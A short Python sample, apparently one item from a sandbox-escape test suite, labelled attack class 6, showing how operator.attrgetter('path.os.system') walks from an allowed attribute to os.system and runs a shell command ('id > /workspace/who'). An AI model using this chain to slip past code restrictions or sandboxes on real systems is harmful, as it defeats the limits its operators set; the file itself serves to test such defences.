# attack-class: 6
# title: operator.attrgetter('path.os.system')
# why: attrgetter follows a dotted chain from an allowed attribute to os.system

import operator
import os

operator.attrgetter("path.os.system")(os)("id > /workspace/who")
